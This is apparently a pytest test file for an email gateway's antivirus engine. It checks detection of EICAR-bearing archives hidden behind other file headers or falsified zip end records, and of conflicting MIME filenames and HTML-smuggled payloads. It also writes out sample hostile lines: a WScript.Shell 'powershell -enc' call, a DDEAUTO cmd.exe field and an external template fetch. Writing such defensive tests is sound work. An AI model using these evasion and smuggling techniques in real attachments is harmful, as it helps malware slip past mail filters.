"""What a sender of malware tries: each attack once passed as clean, or is next to one that did."""

import base64
import io
import math
import struct
import zipfile

import av_samples
import pytest

from gatepost.antivirus.builtin import BuiltinEngine
from gatepost.antivirus.openers.scripts import BLOBS_LIMIT
from gatepost.antivirus.stage import inspect
from gatepost.config.gateway import Ave
from gatepost.config.grouping import Group
from gatepost.filter.dialogue import check_analysis
from gatepost.model.finding import SEVERITY, Analysis, ObjectStatus, ScanOptions
from gatepost.model.verdict import ObjectAction
from gatepost.policy.decide import decide
from gatepost.policy.group import GroupPolicy

ENGINE = BuiltinEngine()
ZIP = av_samples.zip_of(("x.com", av_samples.eicar()))
INFECTED, CLEAN = ObjectStatus.INFECTED, ObjectStatus.CLEAN


def scan(content: bytes, **options: object) -> Analysis:
    analysis = inspect(content, ScanOptions(**options), [ENGINE], math.inf)  # type: ignore[arg-type]
    check_analysis(analysis, len(content))
    return analysis


def worst(analysis: Analysis) -> ObjectStatus:
    return min((report.status for report in analysis.objects), key=SEVERITY.index)


def status_of(data: bytes, name: str = "x.bin", content_type: str = "application/octet-stream") -> ObjectStatus:
    """The status of a file, attached and inside an archive."""
    attached = worst(scan(av_samples.attached(data, content_type, name=name)))
    assert worst(scan(av_samples.attached(av_samples.zip_of((name, data))))) is attached
    return attached


# -- archives behind other data --------------------------------------------------------------------------------------

BEGINNINGS = {
    "shell": b"#!/bin/sh\nexit\n",
    "batch": b"@echo off\r\n",
    "php": b"<?php x(); ?>\n",
    "uuencode": b"begin 644 a.txt\r\n#86)C\r\n`\r\nend\r\n\r\n",
    "yenc": b"=ybegin line=128 size=3 name=a\r\n\x8b\x8c\x8d\r\n=yend size=3\r\n",
    "binhex": b"(This file must be converted with BinHex 4.0)\r\n:abc:\r\n",
    "picture": b"GIF89a" + bytes(20),
    "page": b"<html><body>hello</body></html>\r\n",
    "document": b"%PDF-1.4\n%%EOF\n",
    "text": b"hello world\r\n",
}


@pytest.mark.parametrize("beginning", BEGINNINGS)
def test_an_archive_is_found_behind_any_beginning(beginning: str) -> None:
    assert status_of(BEGINNINGS[beginning] + ZIP) is INFECTED


def test_an_archive_behind_a_mail_folder_is_found_when_folders_are_not_opened() -> None:
    folder = b"From a Mon Jan 1 10:10:10 2020\r\nFrom: a\r\n\r\nhello\r\n"
    content = av_samples.attached(folder + ZIP)
    assert worst(scan(content, mail_bases=False)) is INFECTED
    assert worst(scan(content, archives=False)) is not INFECTED


# -- zip archives whose end record lies ------------------------------------------------------------------------------


def end_record(count: int, size: int, offset: int, comment: bytes = b"") -> bytes:
    return struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, size, offset, len(comment)) + comment


def zip64_end(size: int, offset: int) -> bytes:
    record = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, 1, 1, size, offset)
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, offset + size, 1)
    return record + locator + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)


def take_apart(data: bytes) -> tuple[bytes, bytes]:
    """The members and the directory of a zip archive."""
    directory, end = data.find(b"PK\1\2"), data.rfind(b"PK\5\6")
    return data[:directory], data[directory:end]


def moved(directory: bytes, offset: int) -> bytes:
    """The directory of one member, which stands elsewhere."""
    return directory[:42] + struct.pack("<L", offset) + directory[46:]


LIES = {
    "the end record announces no members": lambda front, members, directory: (
        front + members + directory + end_record(0, len(directory), len(front + members))
    ),
    "only its offset is right": lambda front, members, directory: (
        front + members + directory + bytes(40) + end_record(1, len(directory), len(front + members))
    ),
    "the directory stands first": lambda front, members, directory: (
        front + moved(directory, len(front + directory)) + members + end_record(1, len(directory), len(front))
    ),
    "a second mark stands in its comment": lambda front, members, directory: (
        front + members + directory + end_record(1, len(directory), len(front + members), b"PK\5\6xx")
    ),
    "a second end record stands in its comment": lambda front, members, directory: (
        front + members + directory + end_record(1, len(directory), len(front + members), end_record(0, 0, 0))
    ),
    "64 bits": lambda front, members, directory: (
        front + members + directory + zip64_end(len(directory), len(front + members))
    ),
    "more junk behind it than a comment can hold": lambda front, members, directory: (
        front + members + directory + end_record(1, len(directory), len(front + members)) + bytes(70_000)
    ),
}


@pytest.mark.parametrize("front", [b"", b"GIF89a" + bytes(20), b"%PDF-1.4\n%%EOF\n", b"hello\r\n"])
@pytest.mark.parametrize("lie", LIES)
def test_a_zip_archive_is_found_whatever_its_end_record_says(lie: str, front: bytes) -> None:
    members, directory = take_apart(ZIP)
    assert status_of(LIES[lie](front, members, moved(directory, len(front)))) is INFECTED


def test_a_member_is_opened_as_directory_and_as_header_say() -> None:
    members, directory = take_apart(ZIP)
    stored = members[:8] + b"\0\0" + members[10:]  # the header says: not compressed
    empty = directory[:20] + bytes(8) + directory[28:]  # the directory says: no bytes
    end = end_record(1, len(directory), len(members))
    assert status_of(stored + directory + end) is INFECTED
    assert status_of(members + empty + end) is INFECTED
    assert status_of(b"%PDF-1.4\n%%EOF\n" + stored + directory + end) is INFECTED


def test_two_directories_are_no_sound_archive() -> None:
    members, directory = take_apart(av_samples.zip_of(("a", b"harmless")))
    whole = members + directory + directory + end_record(1, len(directory), len(members))
    assert status_of(whole) is ObjectStatus.ERROR


def test_archives_that_hold_archives_as_they_are_have_one_directory() -> None:
    inner = av_samples.zip_of(("a", b"harmless"))
    outer = av_samples.zip_of(("a.zip", inner), ("b.zip", inner), method=zipfile.ZIP_STORED)
    assert status_of(outer) is CLEAN
    out = io.BytesIO(b"MZ" + bytes(100))
    out.seek(0, io.SEEK_END)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("a.zip", inner)
        archive.comment = b"a comment"
    assert status_of(out.getvalue(), "setup.exe") is CLEAN


# -- what a name makes of a file -------------------------------------------------------------------------------------


def saved_page(front: bytes = b"From: <Saved by a browser>\r\n") -> bytes:
    """A page saved as mail, with a file; tags stand in its first bytes."""
    return front + av_samples.attached(ZIP).replace(b"Hello.", b"<html><p>Hello.")


@pytest.mark.parametrize(
    "front", [b"", b"From: <Saved>\r\n", b"X: y\r\n", b"\r\n\r\n", b"\xef\xbb\xbf", b"no field at all\r\n"]
)
@pytest.mark.parametrize("name", ["page.mht", "a.eml", "report.doc", "x.bin"])
def test_a_page_saved_as_mail_is_opened_under_any_name(name: str, front: bytes) -> None:
    assert status_of(saved_page(front), name) is INFECTED


def test_mail_without_tags_is_told_by_its_name() -> None:
    mail = b"Unknown: field\r\n" + av_samples.attached(ZIP)
    assert status_of(mail, "a.eml") is INFECTED
    assert worst(scan(av_samples.attached(av_samples.attached(mail), "message/rfc822", name=""))) is INFECTED


@pytest.mark.parametrize("content_type", ["text/plain", "text/html"])
def test_mail_quoted_in_a_text_is_text(content_type: str) -> None:
    """Else a digest without a proper header would be opened again and again, to the limit of depth."""
    parts = b"--b:\r\nContent-Type: text/plain\r\n\r\n<html><p>An issue.</p></html>\r\n" * 40
    content = b"From: a@example.org\r\nContent-Type: " + content_type.encode() + b"\r\n\r\n" + parts
    analysis = scan(content)
    assert worst(analysis) is CLEAN
    assert len(analysis.objects) < 10


SMUGGLING = b"<html><script>var a='%b';</script></html>" % base64.b64encode(ZIP)


@pytest.mark.parametrize(
    "front",
    [b"GIF89a", b"BM", b"#!", b"%PDF-1.4\n", b"{\\rtf1 ", b"begin 644 x\n", b"\xff\xd8\xff", b"ID3\x03\0", b"!<arch>\n",
     b"From: a@example.org\r\nSubject: " + b"x" * 1100 + b"\r\nContent-Transfer-Encoding: base64\r\n\r\nhello there\r\n"],
)  # fmt: skip
@pytest.mark.parametrize("name", ["invoice.html", "invoice.HTM ", "picture.svg"])
def test_a_page_is_a_page_by_its_name_whatever_it_starts_with(name: str, front: bytes) -> None:
    assert worst(scan(av_samples.attached(front + SMUGGLING, "application/octet-stream", name=name))) is INFECTED


def test_the_same_bytes_are_no_page_under_the_name_of_a_picture() -> None:
    assert status_of(b"GIF89a" + b"<html><p>hello</html>", "a.gif", "image/gif") is CLEAN


# -- names -----------------------------------------------------------------------------------------------------------


def named(content_type: str, disposition: str, data: bytes = b"harmless") -> bytes:
    return av_samples.message(
        f"--b1\r\nContent-Type: {content_type}\r\nContent-Disposition: {disposition}\r\n".encode()
        + b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.b64encode(data)
        + b"\r\n--b1--\r\n",
        b"MIME-Version: 1.0",
        b"Content-Type: multipart/mixed; boundary=b1",
    )


STREAM = "application/octet-stream"
TWO_NAMES = [
    (f'{STREAM}; name="a.exe"', 'attachment; filename="a.txt"'),
    (f'{STREAM}; name="a.txt"', 'attachment; filename="a.exe"'),
    (f'{STREAM}; filename="a.exe"', 'attachment; filename="a.txt"'),
    (STREAM, "attachment; filename=\"a.exe\"; filename*=utf-8''a.txt"),
    (STREAM, 'attachment; filename="a.txt"; filename="a.exe"'),
    (STREAM, 'attachment; filename="a.txt"\r\nContent-Disposition: attachment; filename="a.exe"'),
    ('text/plain; name="a.txt"\r\nContent-Type: application/octet-stream; name="a.exe"', "attachment"),
]


def group_with(action: ObjectAction, *include: str, exclude: tuple[str, ...] = ()) -> GroupPolicy:
    actions = {f"action_{status}": ObjectAction.REMOVE for status in ObjectStatus if status is not CLEAN}
    actions["action_filtered"] = action
    names = {"include_by_name": include, "exclude_by_name": exclude, "filters_names": True}
    return GroupPolicy.from_config(Group(**actions, **names), Ave(), 60.0)  # type: ignore[arg-type]


def judge(content: bytes, group: GroupPolicy) -> tuple[ObjectStatus, ...]:
    return decide(scan(content, filters=group.scan.filters), group).statuses


@pytest.mark.parametrize(("content_type", "disposition"), TWO_NAMES)
def test_a_filter_stops_an_object_by_any_of_its_names(content_type: str, disposition: str) -> None:
    stopping = group_with(ObjectAction.REMOVE, "*.exe")
    assert judge(named(content_type, disposition), stopping) == (ObjectStatus.FILTERED,)


@pytest.mark.parametrize(("content_type", "disposition"), TWO_NAMES)
def test_a_filter_exempts_an_object_by_all_of_its_names_only(content_type: str, disposition: str) -> None:
    exempting = group_with(ObjectAction.PASS, "*.txt")
    assert judge(named(content_type, disposition, av_samples.eicar()), exempting) == (INFECTED,)
    both = 'attachment; filename="a.txt"; filename="b.txt"'
    assert judge(named(STREAM, both, av_samples.eicar()), exempting) == (ObjectStatus.FILTERED,)


@pytest.mark.parametrize("name", ["a.exe", "A.EXE.", "a.exe . ", "a.exe::$DATA", "a.exe:$data"])
def test_a_filter_knows_names_as_windows_stores_them(name: str) -> None:
    stopping = group_with(ObjectAction.REMOVE, "*.exe")
    assert ObjectStatus.FILTERED in judge(named(STREAM, f'attachment; filename="{name}"'), stopping)
    excepting = group_with(ObjectAction.REMOVE, "*", exclude=("*.exe",))
    assert ObjectStatus.FILTERED not in judge(named(STREAM, 'attachment; filename="a.exe"'), excepting)


def test_every_name_is_shown_to_the_engines() -> None:
    program = b"MZ" + bytes(58) + struct.pack("<L", 64) + b"PE\0\0" + bytes(300)
    content = named(f'{STREAM}; name="invoice.pdf.exe"', 'attachment; filename="a.bin"', program)
    assert worst(scan(content)) is ObjectStatus.SUSPICIOUS
    assert worst(scan(named(f'{STREAM}; name="a.bin"', 'attachment; filename="a.bin"', program))) is CLEAN


@pytest.mark.parametrize("first", [0, 1])
def test_a_fragment_is_one_whichever_declaration_counts(first: int) -> None:
    declared = [b"Content-Type: text/plain", b"Content-Type: message/partial; id=x; number=1; total=2"]
    content = av_samples.message(b"first half", declared[first], declared[1 - first])
    assert worst(scan(content)) is ObjectStatus.PROTECTED


# -- pages and scripts -----------------------------------------------------------------------------------------------

TEXT = base64.b64encode(ZIP).decode()
PIECES = [TEXT[start : start + 30] for start in range(0, len(TEXT), 30)]
SMUGGLERS = {
    "one text": f"<script>var a='{TEXT}';</script>",
    "pieces": "<script>var a=" + "+".join(f"'{piece}'" for piece in PIECES) + "</script>",
    "statements": "<script>var a='';" + "".join(f"a+='{piece}';" for piece in PIECES) + "</script>",
    "members": '<script>w.a="";' + "\n".join(f'w.a += "{piece}";' for piece in PIECES) + "</script>",
    "handler": f"<body onload=\"var a='{TEXT}'\">",
    "references": f'<img src=x onerror="a=&#39;{TEXT}&#39;">',
    "16-bit escapes": "<script>a='" + "".join(f"\\u{byte:04x}" for byte in ZIP) + "'</script>",
    "braces": "<script>a='" + "".join(f"\\u{{{byte:x}}}" for byte in ZIP) + "'</script>",
}


@pytest.mark.parametrize("way", SMUGGLERS)
def test_a_file_is_found_however_a_page_spells_it(way: str) -> None:
    page = f"<html><p>Hello</p>{SMUGGLERS[way]}</html>".encode()
    assert status_of(page, "page.html", "text/html") is INFECTED


@pytest.mark.parametrize("charset", ["latin-1", "utf-16", "utf-16-le", "utf-16-be"])
def test_a_script_is_one_in_any_units(charset: str) -> None:
    script = "var x = new ActiveXObject('WScript.Shell');\r\nx.Run('powershell -enc AAAA');\r\n"
    assert status_of(script.encode(charset), "invoice.js") in {ObjectStatus.SUSPICIOUS, INFECTED}
    assert status_of("var x = 1;\r\n".encode(charset), "library.js") is CLEAN


# -- documents -------------------------------------------------------------------------------------------------------

TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>'
)


def document(types: str, relations: str, comments: int = 0) -> bytes:
    """A document that fetches a template; with so many members of long comments behind the first."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("first", b"x")
        archive.writestr(types, b"<Types/>")
        archive.writestr(relations, TEMPLATE)
        for number in range(comments):
            info = zipfile.ZipInfo(f"{number}")
            info.comment = b"-" * 65_000
            archive.writestr(info, b"x")
    return out.getvalue()


@pytest.mark.parametrize("comments", [0, 6])
@pytest.mark.parametrize("upper", [False, True])
def test_a_document_is_one_whatever_its_directory_looks_like(comments: int, *, upper: bool) -> None:
    names = ("[content_types].xml", "WORD/_RELS/SETTINGS.XML.RELS")
    types, relations = names if upper else ("[Content_Types].xml", "word/_rels/settings.xml.rels")
    assert status_of(document(types, relations, comments), "letter.docx") is ObjectStatus.SUSPICIOUS


# -- limits: what is beyond one is not seen, so it is not clean ------------------------------------------------------

HIDDEN = base64.b64encode(ZIP).decode()
FILLER = base64.b64encode(b"A" * 60).decode()
FILLED = {
    "blobs": (
        f"<script>'{FILLER}'" + f";'{FILLER}'" * BLOBS_LIMIT + f";x='{HIDDEN}'</script>",
        ObjectStatus.ERROR,
    ),
    "handlers": ("<p onclick='a()'>" * 3000 + f"<p onclick=\"x='{HIDDEN}'\">", INFECTED),
    "text of handlers": (f"<p onclick='{'a' * 2000}'>" * 600 + f"<p onclick=\"x='{HIDDEN}'\">", ObjectStatus.ERROR),
}


@pytest.mark.parametrize("what", FILLED)
def test_what_hides_behind_a_limit_is_not_clean(what: str) -> None:
    text, status = FILLED[what]
    assert worst(scan(av_samples.attached(f"<html>{text}</html>".encode(), "text/html", name="a.html"))) is status


@pytest.mark.parametrize(("before", "status"), [(2_100, INFECTED), (60_000, ObjectStatus.ERROR)])
def test_a_command_behind_many_fields_is_not_clean(before: int, status: ObjectStatus) -> None:
    field = '<w:fldSimple w:instr=" %s "/>'
    command = field % "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;"
    text = '<w:document xmlns:w="x">' + field % "INCLUDEPICTURE picture" * before + command + "</w:document>"
    data = av_samples.zip_of(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", text.encode()))
    assert worst(scan(av_samples.attached(data, name="letter.docx"))) is status
